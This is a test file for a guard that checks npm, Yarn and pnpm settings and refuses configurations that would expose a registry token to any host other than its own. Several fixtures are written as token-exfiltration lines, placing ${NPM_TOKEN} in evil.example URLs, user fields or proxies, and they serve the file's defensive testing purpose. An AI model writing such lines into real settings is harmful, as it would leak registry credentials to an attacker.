import { describe, expect, it } from "vitest"

import {
  npmCredentials,
  refuseStrayToken,
} from "../../src/frontend/npm-credentials.js"
import { sources } from "../helpers/builders.js"
import { lines, refusal } from "../helpers/refusal.js"

const NPMRC = lines(
  "@acme:registry=https://npm.acme.example/",
  "//npm.acme.example/:_authToken=${NPM_TOKEN}",
)
const found = (texts: Record<string, string>, path = "web") =>
  npmCredentials(path, sources(texts))

describe("the settings of a package manager", () => {
  it.each<[string, Record<string, string>]>([
    [".npmrc", { "web/.npmrc": NPMRC }],
    [".npmrc of a folder above", { ".npmrc": NPMRC }],
    [
      ".yarnrc.yml",
      {
        "web/.yarnrc.yml": lines(
          "npmScopes:",
          "  acme:",
          '    npmRegistryServer: "https://npm.acme.example/"',
          '    npmAuthToken: "${NPM_TOKEN:-}"',
        ),
      },
    ],
    [
      ".yarnrc.yml with a registry by its host",
      {
        "web/.yarnrc.yml": lines(
          "npmRegistries:",
          "  //npm.acme.example:",
          '    npmAuthToken: "${NPM_TOKEN}"',
        ),
      },
    ],
  ])("say which variable a registry is shown: %s", (_, texts) => {
    expect(found(texts)).toEqual({
      variables: ["NPM_TOKEN"],
      shown: ["NPM_TOKEN"],
      hosts: ["npm.acme.example"],
      stray: [],
    })
  })

  it("may take variables that are for no host, and others that are no credential", () => {
    const npmrc = lines(
      "cache=${HOME}/cache",
      "; //npm.acme.example/:_authToken=${OLD}",
      "_auth=${EVERYWHERE}",
    )
    expect(found({ "web/.npmrc": npmrc })).toEqual({
      variables: ["EVERYWHERE"],
      shown: [],
      hosts: [],
      stray: [],
    })
  })

  it("need no variable", () => {
    const none = { variables: [], shown: [], hosts: [], stray: [] }
    expect(found({})).toEqual(none)
    const npmrc = "//npm.acme.example/:_authToken=in-the-open"
    expect(found({ "web/.npmrc": npmrc })).toEqual(none)
  })
})

describe("a token", () => {
  const two = lines(NPMRC, "//evil.example:8080/:_authToken=${NPM_TOKEN}")
  const refused = (npmrc: string, registry?: string) =>
    refusal(() => {
      refuseStrayToken(found({ "web/.npmrc": npmrc }), registry)
    })

  it("goes to the one host that the settings name, or that it is said to be for", () => {
    const one = found({ "web/.npmrc": NPMRC })
    expect(() => {
      refuseStrayToken(one, undefined)
      refuseStrayToken(one, "https://npm.acme.example/npm/")
    }).not.toThrow()
  })

  it("for one host is refused where the settings show it to another", () => {
    expect(refused(two, "https://npm.acme.example/")).toBe(
      "credential: `.npmrc` or `.yarnrc.yml` would show `--npm-token` to `evil.example:8080`, and it is for `npm.acme.example`\n   A token is for one host: name its registry as `--npm-registry`, and let no other line take a variable.",
    )
  })

  it("for nobody knows whom is refused where the settings show it to two", () => {
    expect(refused(two)).toContain(
      "would show `--npm-token` to `evil.example:8080`, `npm.acme.example`",
    )
  })

  const YARN = lines(
    "npmScopes:",
    "  acme:",
    '    npmRegistryServer: "https://npm.acme.example/"',
    '    npmAuthToken: "${NPM_TOKEN}"',
  )
  it.each<[string, Record<string, string>, string]>([
    [
      "in the address of a registry",
      {
        "web/.npmrc": lines(
          NPMRC,
          "@evil:registry=https://evil.example/${NPM_TOKEN}/",
        ),
      },
      "line 4 of `web/.npmrc`",
    ],
    [
      "as the name of a user",
      {
        ".npmrc": "//evil.example/:username=${NPM_TOKEN}",
        "web/.npmrc": NPMRC,
      },
      "line 1 of `.npmrc`",
    ],
    [
      "for any host",
      { "web/.npmrc": lines("_auth=${NPM_TOKEN}", NPMRC) },
      "line 1 of `web/.npmrc`",
    ],
    [
      "by a proxy",
      { "web/.npmrc": lines(NPMRC, "https-proxy=http://evil.example:8080") },
      "line 4 of `web/.npmrc`",
    ],
    [
      "by a proxy of Yarn",
      {
        "web/.yarnrc.yml": lines(
          YARN,
          'networkSettings: { "*.example": { httpsProxy: "http://evil.example" } }',
        ),
      },
      "line 6 of `web/.yarnrc.yml`",
    ],
    [
      "in another setting of Yarn",
      {
        "web/.yarnrc.yml": lines(
          YARN,
          'npmPublishRegistry: "https://${NPM_TOKEN}.evil.example"',
        ),
      },
      "line 6 of `web/.yarnrc.yml`",
    ],
    [
      "in the settings of pnpm",
      {
        "web/.npmrc": NPMRC,
        "pnpm-workspace.yaml": "registries: { evil: 'https://x/${NPM_TOKEN}' }",
      },
      "line 1 of `pnpm-workspace.yaml`",
    ],
  ])("is refused where another line takes it: %s", (_, texts, line) => {
    expect(
      refusal(() => {
        refuseStrayToken(found(texts), "https://npm.acme.example/")
      }),
    ).toBe(
      `credential: ${line} would show \`--npm-token\` to others, by a variable that stands for it or by a proxy\n   A token is for one host: let one line for that take the variable, and no other. A proxy is told to the engine.`,
    )
  })

  it.each([
    ["quoted", '  "npmRegistryServer": "https://evil.example/"'],
    ["an alias", '  x: &u "https://evil.example/"\n  npmRegistryServer: *u'],
    ["in one line", '  { npmRegistryServer: "https://evil.example/" }'],
  ])("is refused where Yarn would show it to another host: %s", (_, more) => {
    const texts = { "web/.yarnrc.yml": lines(YARN, " evil:", more) }
    const server = "https://npm.acme.example/"
    expect(
      refusal(() => {
        refuseStrayToken(found(texts), server)
      }),
    ).toContain("would show `--npm-token` to `evil.example`")
  })

  it("is given where a plugin of Yarn came from somewhere else", () => {
    const plugin =
      'plugins: [{ path: ".yarn/plugins/a.cjs", spec: "https://a.example/a.js" }]'
    const one = found({ "web/.yarnrc.yml": lines(YARN, plugin) })
    expect(one).toMatchObject({ hosts: ["npm.acme.example"], stray: [] })
  })

  it("is not given to a credential that something else may repeat", () => {
    const yarn = YARN.replace("npmAuthToken: ", "npmAuthToken: &token ")
    expect(found({ "web/.yarnrc.yml": yarn }).shown).toEqual([])
  })
})
